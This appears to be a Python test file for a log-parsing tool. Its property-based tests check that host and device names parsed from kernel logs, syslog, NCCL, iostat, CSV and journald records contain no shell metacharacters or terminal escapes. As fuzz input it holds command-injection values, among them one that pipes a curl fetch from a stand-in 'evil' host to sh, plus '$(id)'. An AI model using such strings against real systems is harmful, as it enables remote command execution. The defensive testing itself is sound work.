"""Names out of evidence: whoever writes the evidence, no entity holds what steers a terminal or a shell."""

from __future__ import annotations

import io
import re
import unicodedata

import orjson
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tools.errors import EvidenceUnreadable
from tools.names import MAX_NAME_CHARACTERS, clean_device_name, clean_name
from tools.sources.recording import RecordingSource
from tools.types import Entity, Facts

SHELL = set("\"'$`;|&<>\\()!*#{}\n")
XID = "NVRM: Xid (PCI:0000:4e:00): 79, pid=1, GPU has fallen off the bus."
HOSTILE = st.text(st.sampled_from("a1.-_ $`;|&<>\\\"'()\x1b\x07\x00\x9b\u202e\n[]/:{}*!#é"), min_size=1, max_size=40)
ATTACK = "n1;curl${IFS}evil|sh&`id`$(id)\x1b]0;x\x07"
FORMS = {
    "rfc5424": "<2>1 2025-03-04T09:25:03Z {name} kernel - - - {xid}\n",
    "rfc3164": "Mar  4 09:25:03 {name} kernel: [ 12.5] {xid}\n",
    "ras": "- 1131566461 2005.11.09 {name} Nov 9 12:01:01 {name}/{name} kernel: {xid}\n",
    "pdsh": "{name}: [ 12.500000] {xid}\n",
    "nccl": "{name}:4410:4502 [0] NCCL WARN Net : Connection closed by remote peer {name}<48110>\n",
    "iostat": "Linux 5.15.0 ({name}) \t03/04/2026 \t_x86_64_\t(64 CPU)\n\nDevice r/s w/s %util\n{name} 1.00 2.00 99.00\n",
    "guests": "Name                                        ID   Mem VCPUs\tState\tTime(s)\n{name} 3 4096 2 r----- 5.0\n",
    "inventory": "node,rack,gpus,aliases\n{name},r1,8,{name}\n",
    "jobs": "job_id,name,user,state,start,end,nodes,gpus_per_node\n{name},a,b,RUNNING,,,{name},8\n",
    "nfs": "[ 12.500000] nfs: server {name} not responding, still trying\n",
    "disk": "[ 12.500000] blk_update_request: I/O error, dev {name}, sector 12\n",
}


def entities_of(facts: Facts) -> set[Entity]:
    found = {*facts.entities, *(event.entity for event in facts.events)}
    found |= {entity for window in facts.windows for entity in window.entities}
    return found | {entity for link in facts.links for entity in (link.subject, link.object)}


def is_safe(text: str) -> bool:
    return not SHELL & set(text) and not any(unicodedata.category(c)[0] in "CZ" and c != " " for c in text)


def read(text: str) -> Facts:
    try:
        return RecordingSource([], stdin=io.BytesIO(text.encode()), max_bytes=10**7).read_facts()
    except EvidenceUnreadable:
        return Facts()


@pytest.mark.parametrize("form", FORMS)
def test_every_form_tells_an_entity_of_a_plain_name(form):
    facts = read(FORMS[form].format(name="n7", xid=XID))
    assert entities_of(facts) or facts.inventory


@pytest.mark.parametrize("form", FORMS)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=HOSTILE)
@example(name=ATTACK)
@example(name="$(id)")
@example(name="a`id`")
def test_no_entity_of_any_form_holds_what_steers_a_terminal_or_a_shell(form, name):
    for entity in entities_of(read(FORMS[form].format(name=name, xid=XID))):
        assert is_safe(str(entity)) and all(is_safe(value) for value in entity.id_map.values()), entity
        assert not entity.node.startswith("-") and not entity.name.startswith("-")
        assert " " not in entity.node


@settings(max_examples=25, deadline=None)
@given(name=HOSTILE)
@example(name=ATTACK)
def test_a_journal_names_no_host_that_a_shell_would_run(name):
    record = {"_HOSTNAME": name, "_TRANSPORT": "kernel", "MESSAGE": XID, "__REALTIME_TIMESTAMP": "1741076703000000"}
    found = entities_of(read(orjson.dumps(record).decode() + "\n"))
    assert found and all(is_safe(str(entity)) for entity in found)


@given(text=st.text(max_size=600))
def test_a_clean_name_stays_clean_and_short(text):
    for clean in (clean_name, clean_device_name):
        once = clean(text)
        assert clean(once) == once and len(once) <= MAX_NAME_CHARACTERS and is_safe(once)
    assert re.fullmatch(r"[\w.:@/+-]*", clean_name(text), re.ASCII)


@pytest.mark.parametrize(
    "name",
    ["fio[4711]", "10.9.8.2@o2ib:/scratch", "R14-M0-NC-I:J18-U11", "sd 6:0:2:0", "docker-0a1b2c3d4e5f", "?", "dm-3"],
)
def test_names_that_occur_stay_as_they_are(name):
    assert Entity("disk", "n1", name).name == name
